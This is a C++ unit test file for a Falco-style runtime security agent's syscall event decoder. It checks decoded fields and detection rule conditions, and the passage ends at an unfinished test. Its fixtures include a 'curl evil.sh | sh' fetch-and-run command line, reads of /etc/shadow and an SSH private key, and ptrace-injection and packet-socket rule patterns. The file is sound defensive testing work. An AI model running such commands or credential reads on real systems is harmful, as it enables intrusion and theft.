// The decoder end to end: records built per bpf/event_abi.h go through EventDecoder, and the
// events it produces are checked with the real field extractors and real rule conditions
// compiled by the rule compiler, so Falco semantics are tested rather than struct members.

#include "agent/event_decoder.h"

#include <fcntl.h>
#include <sys/socket.h>
#include <sys/stat.h>

#include <cerrno>
#include <filesystem>
#include <fstream>
#include <map>
#include <string>

#include <gtest/gtest.h>

#include "common/fields/source.h"
#include "common/rules/compiler.h"
#include "common/rules/rule_loader.h"
#include "test/agent/record_builder.h"

namespace vigil::agent {
namespace {

using vigil::testing::RawRecord;
using vigil::testing::RecordBuilder;

const std::string kId = "9f8e7d6c5b4a39281706f5e4d3c2b1a09f8e7d6c5b4a39281706f5e4d3c2b1a0";

void write_file(const std::string& path, const std::string& text) {
  std::filesystem::create_directories(std::filesystem::path(path).parent_path());
  std::ofstream(path) << text;
}

// Compiles Falco rule text once per distinct text and evaluates events against it.
class Rules {
 public:
  // True when the single rule "r" with `condition` (after `prelude`: lists and macros) matches.
  bool fires(const std::string& condition, const fields::SyscallEvent* ev,
             const std::string& prelude = "") {
    const std::string yaml = prelude + "- rule: r\n  desc: d\n  condition: >\n    " + condition +
                             "\n  output: o\n  priority: WARNING\n";
    auto it = cache_.find(yaml);
    if (it == cache_.end()) {
      Entry e;
      rules::RuleLoader loader(e.defs, e.diags);
      loader.load_text("test.yaml", yaml);
      e.out = rules::compile_rules(e.defs);
      it = cache_.emplace(yaml, std::move(e)).first;
    }
    Entry& e = it->second;
    EXPECT_FALSE(e.diags.has_errors()) << e.diags.to_string();
    EXPECT_FALSE(e.out.diagnostics.has_errors()) << e.out.diagnostics.to_string();
    if (e.out.rule_set == nullptr) {
      return false;
    }
    const rules::SourceRules* src = e.out.rule_set->source("syscall");
    if (src == nullptr || ev == nullptr) {
      ADD_FAILURE() << "rule did not compile: " << condition;
      return false;
    }
    rules::EvalContext ctx;
    return !src->evaluate(ev, ctx).empty();
  }

 private:
  struct Entry {
    rules::RuleDefs defs;
    Diagnostics diags;
    rules::CompileOutput out;
  };
  std::map<std::string, Entry> cache_;
};

// The first value of a field, rendered ("<NA>" when unset).
std::string field(const fields::SyscallEvent* ev, std::string_view ref) {
  if (ev == nullptr) {
    return "<no event>";
  }
  std::optional<std::string_view> bracket;
  std::string_view name = ref;
  if (const size_t b = ref.find('['); b != std::string_view::npos) {
    name = ref.substr(0, b);
    bracket = ref.substr(b + 1, ref.size() - b - 2);
  }
  auto bound = fields::syscall_source().fields->bind(name, bracket);
  if (!bound.ok()) {
    return "<bad field: " + bound.error() + ">";
  }
  fields::ValuePool pool;
  fields::Arena arena;
  fields::ValueWriter w(pool, arena);
  bound->info->extract(ev, bound->arg, w);
  if (pool.empty()) {
    return "<NA>";
  }
  switch (bound->info->type) {
    case fields::FieldType::kNumber:
    case fields::FieldType::kBool:
      return std::to_string(pool[0].num);
    case fields::FieldType::kIpAddr:
    case fields::FieldType::kIpNet:
      return fields::format_ip(pool[0].ip);
    default:
      return std::string(pool[0].str);
  }
}

class FakeMetadata : public ContainerMetadata {
 public:
  bool lookup(std::string_view full_id, fields::ContainerInfo& c, fields::K8sInfo& k) override {
    ++calls;
    if (!known) {
      return false;
    }
    name_ = "web";  // views stay valid until the next lookup
    c.name = name_;
    c.image = "nginx:1.25";
    k.pod_name = "web-7d9c";
    k.ns_name = "prod";
    label_ = {"app", "web"};
    k.labels = std::span<const fields::K8sLabel>(&label_, 1);
    last_id = std::string(full_id);
    return true;
  }
  bool known = true;
  int calls = 0;
  std::string last_id;

 private:
  std::string name_;
  fields::K8sLabel label_;
};

class EventDecoderTest : public ::testing::Test {
 protected:
  EventDecoderTest() {
    char tmpl[] = "/tmp/vigil-dec-XXXXXX";
    dir_ = mkdtemp(tmpl);
    write_file(dir_ + "/etc/passwd",
               "root:x:0:0:root:/root:/bin/bash\nnobody:x:65534:65534::/nonexistent:/bin/false\n");
    write_file(dir_ + "/etc/group", "root:x:0:\nnogroup:x:65534:\n");
    // A cgroup tree stand-in: the resolver maps inode numbers to paths the same way.
    std::filesystem::create_directories(dir_ + "/cg/system.slice/docker-" + kId + ".scope");
    std::filesystem::create_directories(dir_ + "/cg/user.slice");
    struct stat st {};
    stat((dir_ + "/cg/system.slice/docker-" + kId + ".scope").c_str(), &st);
    container_cgroup_ = st.st_ino;
    stat((dir_ + "/cg/user.slice").c_str(), &st);
    host_cgroup_ = st.st_ino;

    ProcessTableOptions po;
    po.proc_root = dir_ + "/proc";  // empty: processes come from records alone
    po.names.host_root = dir_;
    processes_ = std::make_unique<ProcessTable>(po);
    CgroupResolverOptions co;
    co.mount_point = dir_ + "/cg";
    co.proc_root = dir_ + "/proc";
    co.v1_fallback = false;  // whatever this host's layout
    cgroups_ = std::make_unique<CgroupResolver>(co);
    DecoderOptions dopts;
    dopts.hostname = "node-1";
    dopts.metadata = &metadata_;
    decoder_ = std::make_unique<EventDecoder>(*processes_, *cgroups_, dopts);
  }
  ~EventDecoderTest() override { std::filesystem::remove_all(dir_); }

  const fields::SyscallEvent* decode(const RecordBuilder& b) {
    last_ = b.build();
    return decoder_->decode(last_.data(), last_.size);
  }

  // A record of `type` from `tgid`, by default in the host cgroup.
  RecordBuilder rec(uint16_t type, uint32_t tgid = 1000) {
    RecordBuilder b(type, tgid);
    b.cgroup(host_cgroup_).ppid(1);
    return b;
  }

  std::string dir_;
  uint64_t container_cgroup_ = 0;
  uint64_t host_cgroup_ = 0;
  FakeMetadata metadata_;
  std::unique_ptr<ProcessTable> processes_;
  std::unique_ptr<CgroupResolver> cgroups_;
  std::unique_ptr<EventDecoder> decoder_;
  RawRecord last_;
  Rules rules_;
};

// ----- opens ----------------------------------------------------------------------------------

TEST_F(EventDecoderTest, OpenatAbsolutePath) {
  const uint32_t flags = O_WRONLY | O_TRUNC | O_CLOEXEC;
  auto b = rec(VG_T_OPENAT).res(3).args({static_cast<uint64_t>(AT_FDCWD), 0, flags, 0});
  b.path("/etc/passwd").fdinfo(3, VG_FD_FILE, (8u << 20) | 3, 77);
  b.hdr().cpu = 5;
  const fields::SyscallEvent* ev = decode(b);
  ASSERT_NE(ev, nullptr);
  EXPECT_EQ(ev->type, fields::SyscallType::kOpenat);
  EXPECT_EQ(ev->num, 1u);
  EXPECT_EQ(ev->ts, b.hdr().ts + static_cast<uint64_t>(decoder_->boot_to_epoch_ns()));
  EXPECT_EQ(field(ev, "evt.cpu"), "5");
  EXPECT_EQ(field(ev, "evt.hostname"), "node-1");
  EXPECT_EQ(field(ev, "evt.res"), "SUCCESS");
  EXPECT_EQ(field(ev, "fd.name"), "/etc/passwd");
  EXPECT_EQ(field(ev, "fd.nameraw"), "/etc/passwd");
  EXPECT_EQ(field(ev, "fd.directory"), "/etc");
  EXPECT_EQ(field(ev, "fd.filename"), "passwd");
  EXPECT_EQ(field(ev, "fd.num"), "3");
  EXPECT_EQ(field(ev, "fd.typechar"), "f");
  EXPECT_EQ(field(ev, "fd.ino"), "77");
  EXPECT_EQ(field(ev, "fd.dev.major"), "8");
  EXPECT_EQ(field(ev, "fd.dev.minor"), "3");
  // libsinsp's parameters of openat's exit event, in order.
  EXPECT_EQ(field(ev, "evt.arg[0]"), "<f>/etc/passwd");
  EXPECT_EQ(field(ev, "evt.arg[1]"), "AT_FDCWD");
  EXPECT_EQ(field(ev, "evt.arg[2]"), "/etc/passwd");
  EXPECT_EQ(field(ev, "evt.arg[3]"), "O_TRUNC|O_WRONLY|O_CLOEXEC");
  EXPECT_EQ(field(ev, "evt.arg[4]"), "0");
  EXPECT_EQ(field(ev, "evt.arg.dev"), "803");
  EXPECT_EQ(field(ev, "evt.arg.ino"), "77");
  EXPECT_EQ(field(ev, "evt.rawarg.flags"), std::to_string(flags));
  // Numbers and the fd's name are rendered when read; all of them at once here.
  EXPECT_EQ(field(ev, "evt.args"),
            "fd=<f>/etc/passwd dirfd=AT_FDCWD name=/etc/passwd flags=O_TRUNC|O_WRONLY|O_CLOEXEC "
            "mode=0 dev=803 ino=77");
  EXPECT_TRUE(rules_.fires("evt.arg.fd = \"<f>/etc/passwd\" and evt.arg.ino = 77", ev));
  EXPECT_TRUE(rules_.fires("fd.directory=/etc and evt.arg.flags contains O_WRONLY", ev));
  EXPECT_TRUE(rules_.fires("evt.is_open_write=true and evt.is_open_read=false", ev));
  EXPECT_TRUE(rules_.fires("container.id=host and proc.pid=1000", ev));
  // Falco's "Clear Log Activities" shape.
  EXPECT_TRUE(rules_.fires("open_write and evt.arg.flags contains \"O_TRUNC\"", ev,
                           "- macro: open_write\n  condition: (evt.type in (open,openat,openat2) "
                           "and evt.is_open_write=true and fd.typechar='f' and fd.num>=0)\n"));
}

TEST_F(EventDecoderTest, OpenatRelativeToCwd) {
  // chdir updates the table's cwd (the event itself shows the new cwd).
  const fields::SyscallEvent* ev = decode(rec(VG_T_CHDIR).res(0).path("alice").cwd("/home/alice"));
  ASSERT_NE(ev, nullptr);
  EXPECT_EQ(field(ev, "evt.arg.path"), "alice");
  EXPECT_EQ(field(ev, "proc.cwd"), "/home/alice");

  ev = decode(rec(VG_T_OPENAT)
                  .res(4)
                  .args({static_cast<uint64_t>(AT_FDCWD), 0, O_RDONLY, 0})
                  .path("../bob/./.ssh//id_rsa"));
  ASSERT_NE(ev, nullptr);
  EXPECT_EQ(field(ev, "fd.name"), "/home/bob/.ssh/id_rsa");
  EXPECT_EQ(field(ev, "fd.nameraw"), "../bob/./.ssh//id_rsa");
  EXPECT_EQ(field(ev, "evt.arg.name"), "/home/bob/.ssh/id_rsa");
  EXPECT_EQ(field(ev, "fd.directory"), "/home/bob/.ssh");
  EXPECT_EQ(field(ev, "evt.arg.flags"), "O_RDONLY");
  EXPECT_TRUE(rules_.fires("evt.is_open_read=true and fd.name pmatch (/home/bob)", ev));

  // fchdir takes the directory's path from the record.
  decode(rec(VG_T_FCHDIR).res(0).args({7}).fdpath("/var/log"));
  ev = decode(rec(VG_T_OPEN).res(5).args({0, O_RDONLY, 0}).path("syslog"));
  EXPECT_EQ(field(ev, "fd.name"), "/var/log/syslog");
  EXPECT_EQ(field(ev, "evt.arg[0]"), "<f>/var/log/syslog");
  EXPECT_EQ(field(ev, "evt.arg[1]"), "/var/log/syslog");
}

TEST_F(EventDecoderTest, OpenatRelativeToDirfd) {
  const fields::SyscallEvent* ev =
      decode(rec(VG_T_OPENAT).res(3).args({5, 0, O_RDONLY, 0}).path("shadow").dirfd_path("/etc"));
  ASSERT_NE(ev, nullptr);
  EXPECT_EQ(field(ev, "fd.name"), "/etc/shadow");
  EXPECT_EQ(field(ev, "evt.arg.dirfd"), "5");
  EXPECT_EQ(field(ev, "evt.rawarg.dirfd"), "5");
  // Absolute paths ignore the dirfd.
  ev =
      decode(rec(VG_T_OPENAT).res(3).args({5, 0, O_RDONLY, 0}).path("/etc/hosts").dirfd_path("/x"));
  EXPECT_EQ(field(ev, "fd.name"), "/etc/hosts");
}

TEST_F(EventDecoderTest, FailedOpenKeepsTheRequestedPath) {
  const fields::SyscallEvent* ev =
      decode(rec(VG_T_OPENAT)
                 .res(-ENOENT)
                 .args({static_cast<uint64_t>(AT_FDCWD), 0, O_RDONLY, 0})
                 .path("/nonexistent/../etc/missing"));
  ASSERT_NE(ev, nullptr);
  EXPECT_EQ(field(ev, "fd.num"), "-1");
  EXPECT_EQ(field(ev, "fd.typechar"), "f");
  EXPECT_EQ(field(ev, "fd.name"), "/etc/missing");
  EXPECT_EQ(field(ev, "evt.res"), "ENOENT");
  EXPECT_EQ(field(ev, "evt.arg.fd"), "-2");
  EXPECT_TRUE(rules_.fires("fd.typechar='f' and fd.num=-1 and evt.res startswith E", ev));
  EXPECT_FALSE(rules_.fires("evt.is_open_create=true", ev));
}

TEST_F(EventDecoderTest, OpenCreatingAnExecutable) {
  const fields::SyscallEvent* ev =
      decode(rec(VG_T_OPENAT)
                 .res(3)
                 .args({static_cast<uint64_t>(AT_FDCWD), 0, O_CREAT | O_WRONLY, 0755})
                 .path("/tmp/payload")
                 .flags(VG_F_OPEN_CREATED)
                 .fdinfo(3, VG_FD_FILE));
  ASSERT_NE(ev, nullptr);
  EXPECT_EQ(field(ev, "evt.arg.mode"), "755");
  EXPECT_EQ(field(ev, "evt.rawarg.mode"), std::to_string(0755));
  // Octal throughout: 010 is "10" (it used to come out as "8").
  EXPECT_EQ(field(decode(rec(VG_T_OPENAT)
                             .res(4)
                             .args({static_cast<uint64_t>(AT_FDCWD), 0, O_CREAT | O_WRONLY, 010})
                             .path("/tmp/x")
                             .fdinfo(4, VG_FD_FILE)),
                  "evt.arg.mode"),
            "10");
  ev = decode(rec(VG_T_OPENAT)
                  .res(3)
                  .args({static_cast<uint64_t>(AT_FDCWD), 0, O_CREAT | O_WRONLY, 0755})
                  .path("/tmp/payload")
                  .flags(VG_F_OPEN_CREATED)
                  .fdinfo(3, VG_FD_FILE));
  EXPECT_TRUE(rules_.fires("evt.is_open_create=true and evt.is_open_exec=true", ev));
  // Without O_CREAT the mode argument is not reported, as the drivers do.
  ev = decode(rec(VG_T_OPENAT)
                  .res(3)
                  .args({static_cast<uint64_t>(AT_FDCWD), 0, O_RDONLY, 0755})
                  .path("/tmp/payload"));
  EXPECT_EQ(field(ev, "evt.arg.mode"), "0");
  // creat() has no flags argument but implies O_CREAT|O_WRONLY|O_TRUNC.
  ev = decode(rec(VG_T_CREAT).res(3).args({0, 0700}).path("/tmp/c").fdinfo(3, VG_FD_FILE));
  EXPECT_EQ(field(ev, "evt.arg.mode"), "700");
  EXPECT_EQ(field(ev, "evt.arg[1]"), "/tmp/c");
  EXPECT_EQ(field(ev, "fd.name"), "/tmp/c");
}

TEST_F(EventDecoderTest, OpeningADirectory) {
  const fields::SyscallEvent* ev =
      decode(rec(VG_T_OPENAT)
                 .res(3)
                 .args({static_cast<uint64_t>(AT_FDCWD), 0, O_DIRECTORY, 0})
                 .path("/etc/")
                 .fdinfo(3, VG_FD_DIR));
  EXPECT_EQ(field(ev, "fd.type"), "directory");
  EXPECT_EQ(field(ev, "fd.name"), "/etc");
  EXPECT_EQ(field(ev, "fd.directory"), "/etc");
}

TEST(ResolvePathTest, Normalises) {
  fields::Arena arena;
  EXPECT_EQ(resolve_path("/cwd", "/etc/passwd", arena), "/etc/passwd");
  EXPECT_EQ(resolve_path("/cwd", "/etc/../etc//./shadow/", arena), "/etc/shadow");
  EXPECT_EQ(resolve_path("/home/a", "b/../c", arena), "/home/a/c");
  EXPECT_EQ(resolve_path("/", "x", arena), "/x");
  EXPECT_EQ(resolve_path("/a", "../../..", arena), "/");
  EXPECT_EQ(resolve_path("/a/", ".", arena), "/a");
  EXPECT_EQ(resolve_path("", "rel/x", arena), "rel/x");
  EXPECT_EQ(resolve_path("/a", "", arena), "");
  EXPECT_EQ(resolve_path("/a", "/", arena), "/");
  EXPECT_EQ(resolve_path("/a", "//", arena), "/");
  EXPECT_EQ(resolve_path("/a", ".hidden", arena), "/a/.hidden");
  EXPECT_EQ(resolve_path("/a", "..x/y", arena), "/a/..x/y");
  // An already normal absolute path is returned as is, without a copy.
  const std::string_view p = "/usr/lib/x86_64-linux-gnu/libc.so.6";
  EXPECT_EQ(resolve_path("/cwd", p, arena).data(), p.data());
}

// ----- processes ------------------------------------------------------------------------------

TEST_F(EventDecoderTest, ExecveTakesTheNewImage) {
  auto b = rec(VG_T_EXECVE, 1200).res(0).comm("bash").flags(VG_F_EXE_UPPER | VG_F_EXE_WRITABLE);
  b.argv({"bash", "-c", "curl evil.sh | sh"}).exepath("/usr/bin/bash").cwd("/root");
  b.hdr().exe_ino = 4242;
  b.hdr().exe_ctime = 1'700'000'000'000'000'000ull;
  b.hdr().tty = (136u << 20) | 0;
  const fields::SyscallEvent* ev = decode(b);
  ASSERT_NE(ev, nullptr);
  EXPECT_EQ(field(ev, "evt.type"), "execve");
  EXPECT_EQ(field(ev, "proc.name"), "bash");
  EXPECT_EQ(field(ev, "proc.exe"), "bash");
  EXPECT_EQ(field(ev, "proc.exepath"), "/usr/bin/bash");
  EXPECT_EQ(field(ev, "proc.args"), "-c curl evil.sh | sh");
  EXPECT_EQ(field(ev, "proc.cmdline"), "bash -c curl evil.sh | sh");
  EXPECT_EQ(field(ev, "proc.cwd"), "/root");
  EXPECT_EQ(field(ev, "proc.tty"), "34816");
  EXPECT_EQ(field(ev, "proc.exe_ino"), "4242");
  EXPECT_EQ(field(ev, "evt.arg.exe"), "bash");
  EXPECT_EQ(field(ev, "evt.arg.args"), "-c curl evil.sh | sh");
  EXPECT_EQ(field(ev, "evt.arg.flags"), "EXE_WRITABLE|EXE_UPPER_LAYER");
  EXPECT_EQ(field(ev, "evt.arg.trusted_exepath"), "/usr/bin/bash");
  EXPECT_TRUE(
      rules_.fires("proc.is_exe_upper_layer=true and proc.is_exe_writable=true and "
                   "proc.is_exe_from_memfd=false and proc.tty != 0",
                   ev));
  EXPECT_TRUE(rules_.fires("evt.type=execve and proc.cmdline contains \"curl\"", ev));

  // A later record sees the same image; a failed exec changes nothing.
  ev = decode(rec(VG_T_EXECVE, 1200).res(-ENOENT).comm("bash").argv({"nope"}));
  EXPECT_EQ(field(ev, "proc.exepath"), "/usr/bin/bash");
  EXPECT_EQ(field(ev, "evt.res"), "ENOENT");
  // Exec with an empty flags word prints 0.
  ev = decode(rec(VG_T_EXECVE, 1200).res(0).comm("ls").argv({"ls"}).exepath("/bin/ls"));
  EXPECT_EQ(field(ev, "evt.arg.flags"), "0");
  EXPECT_EQ(field(ev, "proc.args"), "");
  EXPECT_EQ(field(ev, "proc.name"), "ls");
}

TEST_F(EventDecoderTest, ForkBuildsTheAncestorChain) {
  // sshd (50) -> bash (51) -> sh (52) -> cat (53)
  decode(rec(VG_T_EXECVE, 50)
             .res(0)
             .comm("sshd")
             .argv({"/usr/sbin/sshd", "-D"})
             .exepath("/usr/sbin/sshd"));
  struct Step {
    uint32_t parent, child;
    const char* parent_comm;
    const char* comm;
    const char* exe;
  };
  const Step steps[] = {{50, 51, "sshd", "bash", "/bin/bash"},
                        {51, 52, "bash", "sh", "/bin/sh"},
                        {52, 53, "sh", "cat", "/bin/cat"}};
  for (const Step& s : steps) {
    // The fork record's header is the parent's (res = the child).
    RecordBuilder f = rec(VG_T_FORK, s.parent);
    f.res(s.child).comm(s.parent_comm).ppid(s.parent == 50 ? 1 : s.parent - 1);
    EXPECT_EQ(decode(f), nullptr);  // state only
    const fields::SyscallEvent* ev = decode(
        rec(VG_T_EXECVE, s.child).res(0).comm(s.comm).ppid(s.parent).argv({s.exe}).exepath(s.exe));
    ASSERT_NE(ev, nullptr);
  }
  const fields::SyscallEvent* ev = decode(rec(VG_T_OPENAT, 53)
                                              .res(3)
                                              .ppid(52)
                                              .args({static_cast<uint64_t>(AT_FDCWD), 0, 0, 0})
                                              .path("/etc/shadow")
                                              .comm("cat"));
  ASSERT_NE(ev, nullptr);
  EXPECT_EQ(decoder_->stats().state_only, 3u);
  EXPECT_EQ(field(ev, "proc.aname[0]"), "cat");
  EXPECT_EQ(field(ev, "proc.aname[1]"), "sh");
  EXPECT_EQ(field(ev, "proc.pname"), "sh");
  EXPECT_EQ(field(ev, "proc.pexepath"), "/bin/sh");
  EXPECT_EQ(field(ev, "proc.apid[3]"), "50");
  EXPECT_EQ(field(ev, "proc.ppid"), "52");
  EXPECT_TRUE(rules_.fires("proc.aname[2]=bash and proc.aname[3]=sshd", ev));
  EXPECT_TRUE(rules_.fires("proc.aname=sshd and proc.pcmdline=sh", ev));
  EXPECT_FALSE(rules_.fires("proc.aname[4]=sshd", ev));
  EXPECT_TRUE(rules_.fires("proc.aexepath[3]=/usr/sbin/sshd", ev));
}

TEST_F(EventDecoderTest, ProcexitRemovesTheProcessAfterTheEvent) {
  decode(rec(VG_T_EXECVE, 77).res(0).comm("job").argv({"job"}));
  ASSERT_NE(processes_->find(77), nullptr);
  const fields::SyscallEvent* ev = decode(rec(VG_T_PROCEXIT, 77).res(2 << 8).comm("job"));
  ASSERT_NE(ev, nullptr);
  EXPECT_EQ(field(ev, "evt.type"), "procexit");
  EXPECT_EQ(field(ev, "syscall.type"), "<NA>");
  EXPECT_EQ(field(ev, "proc.name"), "job");
  EXPECT_EQ(field(ev, "proc.exe"), "job");
  EXPECT_EQ(field(ev, "evt.arg.ret"), "2");
  EXPECT_EQ(field(ev, "evt.arg.sig"), "0");
  EXPECT_NE(processes_->find(77), nullptr);  // still there while the event is evaluated
  decoder_->finish_event();
  EXPECT_EQ(processes_->find(77), nullptr);

  // Killed by a signal.
  decode(rec(VG_T_EXECVE, 78).res(0).comm("x").argv({"x"}));
  ev = decode(rec(VG_T_PROCEXIT, 78).res(9));
  EXPECT_EQ(field(ev, "evt.arg.sig"), "SIGKILL");
  // The next decode applies the removal too.
  decode(rec(VG_T_OPENAT, 1000).res(3).path("/x"));
  EXPECT_EQ(processes_->find(78), nullptr);
}

TEST_F(EventDecoderTest, UntrackedProcessFromTheHeader) {
  auto b = rec(VG_T_OPENAT, 0).res(3).path("/x").comm("swapper");
  b.hdr().tid = 0;
  const fields::SyscallEvent* ev = decode(b);
  ASSERT_NE(ev, nullptr);
  EXPECT_EQ(decoder_->stats().untracked, 1u);
  EXPECT_EQ(field(ev, "proc.name"), "swapper");
  EXPECT_EQ(field(ev, "proc.pid"), "0");
}

// ----- network ----------------------------------------------------------------------------------

TEST_F(EventDecoderTest, ConnectIsAClient) {
  const fields::SyscallEvent* ev = decode(rec(VG_T_CONNECT)
                                              .res(0)
                                              .args({3})
                                              .sockaddr4("127.0.0.1", 8080)
                                              .tuple4("127.0.0.1", 40000, "127.0.0.1", 8080)
                                              .fdpath("socket:[4242]"));
  ASSERT_NE(ev, nullptr);
  EXPECT_TRUE(rules_.fires("fd.sip=127.0.0.1 and fd.sport=8080", ev));
  EXPECT_EQ(field(ev, "fd.cport"), "40000");
  EXPECT_EQ(field(ev, "fd.lport"), "40000");
  EXPECT_EQ(field(ev, "fd.rport"), "8080");
  EXPECT_EQ(field(ev, "fd.name"), "127.0.0.1:40000->127.0.0.1:8080");
  EXPECT_EQ(field(ev, "fd.typechar"), "4");
  EXPECT_EQ(field(ev, "fd.l4proto"), "tcp");
  EXPECT_EQ(field(ev, "fd.connected"), "1");
  EXPECT_EQ(field(ev, "fd.is_server"), "0");
  EXPECT_EQ(field(ev, "fd.num"), "3");
  EXPECT_EQ(field(ev, "evt.arg.tuple"), "127.0.0.1:40000->127.0.0.1:8080");
  EXPECT_EQ(field(ev, "evt.arg.addr"), "127.0.0.1:8080");
  EXPECT_EQ(field(ev, "evt.arg[0]"), "127.0.0.1:40000->127.0.0.1:8080");
  EXPECT_TRUE(rules_.fires("fd.snet in (127.0.0.0/8) and fd.sockfamily=ip", ev));
  // Closing it: the fd is still named by its tuple.
  ev = decode(rec(VG_T_CLOSE)
                  .res(0)
                  .args({3})
                  .fdpath("socket:[4242]")
                  .fdinfo(3, VG_FD_SOCK)
                  .tuple4("127.0.0.1", 40000, "127.0.0.1", 8080));
  EXPECT_EQ(field(ev, "fd.name"), "127.0.0.1:40000->127.0.0.1:8080");
  EXPECT_EQ(field(ev, "fd.typechar"), "4");
  EXPECT_EQ(field(ev, "evt.arg.fd"), "3");
}

TEST_F(EventDecoderTest, FailedConnectStillNamesTheDestination) {
  // The socket has no peer after a refused connect; the sockaddr has the attempted one.
  const fields::SyscallEvent* ev = decode(rec(VG_T_CONNECT)
                                              .res(-ECONNREFUSED)
                                              .args({4})
                                              .sockaddr4("10.1.2.3", 443)
                                              .tuple4("0.0.0.0", 0, "0.0.0.0", 0));
  ASSERT_NE(ev, nullptr);
  EXPECT_TRUE(rules_.fires("fd.sip=10.1.2.3 and fd.sport=443", ev));
  EXPECT_EQ(field(ev, "fd.connected"), "0");
  EXPECT_EQ(field(ev, "evt.res"), "ECONNREFUSED");
  EXPECT_EQ(field(ev, "evt.arg.addr"), "10.1.2.3:443");
  // Without any tuple blob as well.
  ev = decode(rec(VG_T_CONNECT).res(-EINPROGRESS).args({4}).sockaddr4("10.9.9.9", 22));
  EXPECT_TRUE(rules_.fires("fd.sip=10.9.9.9 and fd.sport=22 and fd.typechar=4", ev));
}

TEST_F(EventDecoderTest, AcceptIsAServer) {
  const fields::SyscallEvent* ev =
      decode(rec(VG_T_ACCEPT4).res(7).args({3}).tuple4("10.0.0.5", 22, "192.168.1.9", 51000));
  ASSERT_NE(ev, nullptr);
  EXPECT_EQ(field(ev, "fd.num"), "7");
  EXPECT_TRUE(
      rules_.fires("fd.sip=10.0.0.5 and fd.sport=22 and fd.cip=192.168.1.9 and "
                   "fd.cport=51000 and fd.is_server=true",
                   ev));
  EXPECT_EQ(field(ev, "fd.lip"), "10.0.0.5");
  EXPECT_EQ(field(ev, "fd.rip"), "192.168.1.9");
  EXPECT_EQ(field(ev, "evt.arg.tuple"), "192.168.1.9:51000->10.0.0.5:22");
  EXPECT_TRUE(
      rules_.fires("evt.type in (accept, accept4, listen) and evt.dir = < and (fd.typechar = 4 or "
                   "fd.typechar = 6)",
                   ev));
}

TEST_F(EventDecoderTest, BindAndListenAreListening) {
  const fields::SyscallEvent* ev = decode(rec(VG_T_BIND)
                                              .res(0)
                                              .args({3})
                                              .sockaddr4("0.0.0.0", 8080)
                                              .tuple4("0.0.0.0", 8080, "0.0.0.0", 0));
  ASSERT_NE(ev, nullptr);
  EXPECT_EQ(field(ev, "fd.sport"), "8080");
  EXPECT_EQ(field(ev, "fd.is_server"), "1");
  EXPECT_EQ(field(ev, "fd.cip"), "<NA>");
  EXPECT_EQ(field(ev, "evt.arg.addr"), "0.0.0.0:8080");
  ev = decode(rec(VG_T_LISTEN).res(0).args({3, 128}).tuple4("0.0.0.0", 8080, "0.0.0.0", 0));
  EXPECT_EQ(field(ev, "fd.sport"), "8080");
  EXPECT_EQ(field(ev, "evt.arg.backlog"), "128");
}

TEST_F(EventDecoderTest, Ipv6AndMappedAddresses) {
  const fields::SyscallEvent* ev =
      decode(rec(VG_T_CONNECT).res(0).args({3}).tuple6("::1", 40000, "::1", 443));
  EXPECT_EQ(field(ev, "fd.typechar"), "6");
  EXPECT_TRUE(rules_.fires("fd.sip=::1 and fd.sport=443", ev));
  EXPECT_EQ(field(ev, "fd.name"), "[::1]:40000->[::1]:443");
  ev = decode(
      rec(VG_T_CONNECT).res(0).args({3}).tuple6("::ffff:10.0.0.2", 40000, "::ffff:10.0.0.1", 443));
  EXPECT_EQ(field(ev, "fd.typechar"), "4");
  EXPECT_TRUE(rules_.fires("fd.sip=10.0.0.1 and fd.cip=10.0.0.2", ev));
}

TEST_F(EventDecoderTest, UnixAndUdpSockets) {
  vg_socktuple t{};
  t.family = AF_UNIX;
  t.type = SOCK_STREAM;
  const fields::SyscallEvent* ev = decode(
      rec(VG_T_CONNECT)
          .res(0)
          .args({3})
          .sockaddr_unix("/var/run/docker.sock")
          .blob(VG_B_SOCKTUPLE, std::string_view(reinterpret_cast<const char*>(&t), sizeof(t))));
  EXPECT_EQ(field(ev, "fd.typechar"), "u");
  EXPECT_EQ(field(ev, "fd.name"), "/var/run/docker.sock");
  EXPECT_EQ(field(ev, "fd.sockfamily"), "unix");
  EXPECT_EQ(field(ev, "evt.arg.addr"), "/var/run/docker.sock");
  // An unconnected UDP sendto: the destination comes from the sockaddr.
  ev = decode(rec(VG_T_SENDTO)
                  .res(64)
                  .args({5, 0, 64})
                  .sockaddr4("8.8.8.8", 53)
                  .tuple4("0.0.0.0", 53000, "0.0.0.0", 0, SOCK_DGRAM, IPPROTO_UDP));
  EXPECT_TRUE(rules_.fires("fd.sip=8.8.8.8 and fd.sport=53 and fd.l4proto=udp", ev));
  EXPECT_EQ(field(ev, "evt.arg.size"), "64");
  EXPECT_EQ(field(ev, "evt.is_io_write"), "1");
}

TEST_F(EventDecoderTest, SocketDomain) {
  auto b = rec(VG_T_SOCKET).res(3).args({AF_PACKET, SOCK_RAW, 0x300}).cgroup(container_cgroup_);
  const fields::SyscallEvent* ev = decode(b);
  ASSERT_NE(ev, nullptr);
  EXPECT_EQ(field(ev, "evt.arg.domain"), "AF_PACKET");
  EXPECT_EQ(field(ev, "evt.rawarg.domain"), "17");
  // Falco's "Packet socket created in container".
  const std::string prelude = "- macro: container\n  condition: (container.id != host)\n";
  EXPECT_TRUE(rules_.fires("evt.type=socket and container and evt.arg.domain contains AF_PACKET",
                           ev, prelude));
  ev = decode(rec(VG_T_SOCKET, 1001).res(3).args({AF_INET, SOCK_STREAM, 0}));
  EXPECT_FALSE(rules_.fires("evt.type=socket and container and evt.arg.domain contains AF_PACKET",
                            ev, prelude));
  EXPECT_EQ(field(ev, "fd.typechar"), "4");
  EXPECT_EQ(field(ev, "fd.l4proto"), "tcp");
}

// ----- other arguments ------------------------------------------------------------------------

TEST_F(EventDecoderTest, PtraceRequest) {
  const fields::SyscallEvent* ev = decode(rec(VG_T_PTRACE).res(0).args({16, 4242, 0, 0}));
  ASSERT_NE(ev, nullptr);
  EXPECT_TRUE(rules_.fires("evt.arg.request=PTRACE_ATTACH", ev));
  EXPECT_EQ(field(ev, "evt.arg.pid"), "4242");
  EXPECT_EQ(field(ev, "evt.rawarg.request"), "16");
  // Falco's ptrace_attach_or_injection macro.
  EXPECT_TRUE(rules_.fires(
      "(evt.type=ptrace and (evt.arg.request contains PTRACE_POKETEXT or evt.arg.request contains "
      "PTRACE_POKEDATA or evt.arg.request contains PTRACE_ATTACH or evt.arg.request contains "
      "PTRACE_SEIZE or evt.arg.request contains PTRACE_SETREGS))",
      ev));
  ev = decode(rec(VG_T_PTRACE).res(0).args({0, 0, 0, 0}));
  EXPECT_TRUE(rules_.fires("evt.type=ptrace and evt.arg.request contains PTRACE_TRACEME", ev));
}

TEST_F(EventDecoderTest, SetuidNamesTheUser) {
